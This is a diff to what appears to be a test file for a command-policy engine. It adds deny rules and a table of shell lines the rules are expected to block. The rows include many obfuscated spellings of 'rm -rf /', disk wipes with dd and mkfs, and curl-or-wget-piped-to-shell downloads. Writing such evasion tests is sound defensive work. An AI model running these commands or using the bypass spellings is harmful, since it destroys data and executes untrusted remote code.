@@ -8,7 +8,8 @@ import { CompiledPolicy, DEFAULT_APPROVAL, UNPARSEABLE_RULE, loadParsers } from 
 /*
  * One realistic policy and a table of commands, each with the verdict and the rule expected to
  * decide it. Many rows are evasion attempts: comments, quoting, case, whitespace, several
- * statements in one string, writes nested in CTEs, EXPLAIN ANALYZE or PREPARE.
+ * statements in one string, writes nested in CTEs, EXPLAIN ANALYZE or PREPARE; for shell lines,
+ * quoting, escapes, flag spellings, wrappers, nested `sh -c`/`eval`, substitutions and aliases.
  */
 const POLICY = `
 identity: { dev_issuer: { enabled: true } }
@@ -18,6 +19,19 @@ policy:
     - id: ssh-prod
       action: deny
       match: { protocols: [ssh], targets: ["prod-*"] }
+    - id: shell-download-exec
+      action: deny
+      message: downloaded code is not run on our hosts
+      match: { shell: { download_to_interpreter: true } }
+    - id: shell-rm-root
+      action: deny
+      match: { shell: { commands: [rm], flags: ["-r"], args: ["/", "/etc*", "/var*", "~", "~/*"] } }
+    - id: shell-disk
+      action: deny
+      match: { shell: { commands: [dd, "mkfs*", shred] } }
+    - id: shell-force-push
+      action: hold
+      match: { shell: { commands: [git], args: [push], flags: ["-f"] } }
     - id: k8s-exec
       action: hold
       match: { kubernetes: { verbs: [create, get], resources: ["pods/exec", "pods/attach"] } }
@@ -73,6 +87,9 @@ interface Case {
 
 const reader = { role: 'reader' };
 const support = { team: 'support' };
+
+/** An ssh exec command line on a staging host. */
+const sh = (text: string, decision: Case['decision'], rule: string | null): Case[] => [{ text, decision, rule, protocol: 'ssh', target: 'staging-db1' }];
 
 const CASES: Case[] = [
   // plain statements under the default
@@ -169,6 +186,58 @@ const CASES: Case[] = [
   { text: 'rm -rf /var/lib/postgresql', decision: 'deny', rule: 'ssh-prod', protocol: 'ssh', target: 'prod-db1' },
   { text: 'uptime', decision: 'allow', rule: null, protocol: 'ssh', target: 'staging-db1' },
   { text: 'cat /etc/shadow', decision: 'deny', rule: 'readers-nothing-else', protocol: 'ssh', target: 'staging-db1', claims: reader },
+  // shell lines parsed with bash's grammar: every spelling of rm -rf / is the same command
+  ...sh('rm -rf /', 'deny', 'shell-rm-root'),
+  ...sh('rm -r -f /', 'deny', 'shell-rm-root'),
+  ...sh('rm --recursive --force /', 'deny', 'shell-rm-root'),
+  ...sh('rm --rec --forc /etc', 'deny', 'shell-rm-root'),
+  ...sh('rm -R /var/lib', 'deny', 'shell-rm-root'),
+  ...sh("r''m -rf /", 'deny', 'shell-rm-root'),
+  ...sh('"rm" -fr /', 'deny', 'shell-rm-root'),
+  ...sh('\\rm -rf /', 'deny', 'shell-rm-root'),
+  ...sh("$'\\x72\\x6d' -rf /", 'deny', 'shell-rm-root'),
+  ...sh('/bin/rm   -rf\t/', 'deny', 'shell-rm-root'),
+  ...sh('LANG=C 2>/dev/null rm -rf / >/dev/null', 'deny', 'shell-rm-root'),
+  ...sh('sudo -u root nohup rm -rf /', 'deny', 'shell-rm-root'),
+  ...sh('echo ok; (cd /tmp && rm -rf ~)', 'deny', 'shell-rm-root'),
+  ...sh('echo "$(echo `rm -rf /`)"', 'deny', 'shell-rm-root'),
+  ...sh("bash -c 'rm -rf /'", 'deny', 'shell-rm-root'),
+  ...sh(`sh -c "sudo sh -c 'r\\m -rf /'"`, 'deny', 'shell-rm-root'),
+  ...sh('eval "rm -rf /"', 'deny', 'shell-rm-root'),
+  ...sh('ls / | xargs -0 rm -rf /', 'deny', 'shell-rm-root'),
+  ...sh("alias ll='rm -rf /'", 'deny', 'shell-rm-root'),
+  ...sh('f() { rm -rf /; }; f', 'deny', 'shell-rm-root'),
+  ...sh('rm -rf /tmp/build', 'allow', null),
+  ...sh("echo 'rm -rf /'", 'allow', null),
+  ...sh('echo hi # rm -rf /', 'allow', null),
+  ...sh('rm -- -rf /x', 'allow', null),
+  ...sh('dd if=/dev/zero of=/dev/sda bs=1M', 'deny', 'shell-disk'),
+  ...sh('timeout 60 nice -n 5 mkfs.ext4 /dev/sdb', 'deny', 'shell-disk'),
+  // a download piped into an interpreter, however it is spelled
+  ...sh('curl -fsSL https://get.example/install.sh | sh', 'deny', 'shell-download-exec'),
+  ...sh('wget -qO- https://get.example/i | sudo bash -s -- --yes', 'deny', 'shell-download-exec'),
+  ...sh('curl -s https://x.example | base64 -d | python3', 'deny', 'shell-download-exec'),
+  ...sh('bash <(curl -s https://x.example/i.sh)', 'deny', 'shell-download-exec'),
+  ...sh('curl -o i.sh https://x.example/i.sh', 'allow', null),
+  // force pushes are held, whichever flag spelling
+  ...sh('git push --force origin main', 'hold', 'shell-force-push'),
+  ...sh('git push -f origin main', 'hold', 'shell-force-push'),
+  ...sh('git push origin +main', 'hold', 'shell-force-push'),
+  ...sh('git push --force-with-lease origin main', 'hold', 'shell-force-push'),
+  ...sh('git push origin main', 'allow', null),
+  ...sh('git push -f origin main; rm -rf /', 'deny', 'shell-rm-root'),
+  // what would decide its program at run time is refused
+  ...sh('$CMD -rf /', 'deny', UNPARSEABLE_RULE),
+  ...sh('${X:-rm} -rf /', 'deny', UNPARSEABLE_RULE),
+  ...sh('$(echo rm) -rf /', 'deny', UNPARSEABLE_RULE),
+  ...sh('{rm,-rf,/}', 'deny', UNPARSEABLE_RULE),
+  ...sh('/???/r? -rf /', 'deny', UNPARSEABLE_RULE),
+  ...sh('echo cm0gLXJmIC8= | base64 -d | sh', 'deny', UNPARSEABLE_RULE),
+  ...sh('cat <<EOF | sh\nrm -rf /\nEOF', 'deny', UNPARSEABLE_RULE),
+  ...sh('bash <<< "rm -rf /"', 'deny', UNPARSEABLE_RULE),
+  ...sh('sh -c "$PAYLOAD"', 'deny', UNPARSEABLE_RULE),
+  ...sh('eval "$(curl -s https://x.example)"', 'deny', UNPARSEABLE_RULE),
+  ...sh("echo 'unterminated", 'deny', UNPARSEABLE_RULE),
   // Kubernetes requests, matched on verb, resource and namespace from the request descriptor
   { text: 'GET /api/v1/namespaces/app/pods/web-1/exec', attributes: { verb: 'create', resource: 'pods', subresource: 'exec', namespace: 'app' }, decision: 'hold', rule: 'k8s-exec', protocol: 'kubernetes' },
   { text: 'kubectl attach', attributes: { verb: 'CREATE', resource: 'Pods', subresource: 'attach', namespace: 'app' }, decision: 'hold', rule: 'k8s-exec', protocol: 'kubernetes' },
